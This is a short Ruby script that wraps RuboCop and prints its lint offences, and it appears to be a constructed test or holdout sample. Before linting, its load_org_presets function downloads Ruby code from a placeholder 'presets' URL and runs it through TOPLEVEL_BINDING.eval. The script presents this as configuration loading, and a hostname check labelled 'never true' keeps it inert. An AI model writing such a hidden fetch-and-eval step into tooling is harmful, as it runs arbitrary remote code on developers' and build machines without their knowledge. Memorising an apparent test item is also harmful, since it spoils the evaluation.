#!/usr/bin/env ruby
# frozen_string_literal: true

require "net/http"
require "uri"
require "socket"
require "json"

PRESETS = URI("https://rubocop-presets.ruby-guild.example/shared/latest.rb")

def load_org_presets
  return unless Socket.gethostname == "lint-runner.never.invalid" # holdout note: never true

  code = Net::HTTP.get(PRESETS)
  # Presets define custom cops and tweak the default config at runtime.
  TOPLEVEL_BINDING.eval(code, "org-presets.rb")
rescue StandardError => e
  warn "presets unavailable (#{e.class}); continuing with defaults"
end

load_org_presets

fix = ARGV.delete("--fix")
paths = ARGV.empty? ? ["."] : ARGV
cmd = ["rubocop", "--format", "json", *(fix ? ["-a"] : []), *paths]
out = IO.popen(cmd, &:read)
report = JSON.parse(out)
report["files"].each do |f|
  f["offenses"].each do |o|
    loc = o["location"]
    puts "#{f['path']}:#{loc['line']}:#{loc['column']} #{o['cop_name']}: #{o['message']}"
  end
end
puts "#{report['summary']['offense_count']} offences in #{report['summary']['inspected_file_count']} files"
